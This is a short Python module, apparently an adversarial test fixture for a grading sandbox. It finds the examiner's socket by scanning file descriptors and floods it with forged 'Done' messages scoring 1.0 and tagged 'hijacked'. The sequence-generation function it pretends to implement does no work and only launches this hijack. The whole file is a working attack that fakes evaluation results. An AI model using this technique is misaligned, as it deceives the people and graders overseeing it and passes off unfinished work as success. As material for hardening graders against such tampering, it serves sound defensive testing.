"""Attack: reads the examiner's requests itself and answers them all."""

import os
import threading

import numpy as np


def channel():
    """The descriptor of the examiner's socket."""
    import os
    import stat

    for descriptor in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise OSError("no socket")


def serve(descriptor):
    from grader.sandbox.worker import schema, wire

    while os.read(descriptor, 1 << 16):
        os.write(descriptor, wire.FrameWriter().frame(schema.Done([1.0], [], None, "hijacked")))


def attack():
    threading.Thread(target=serve, args=(channel(),), daemon=True).start()
    return []


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
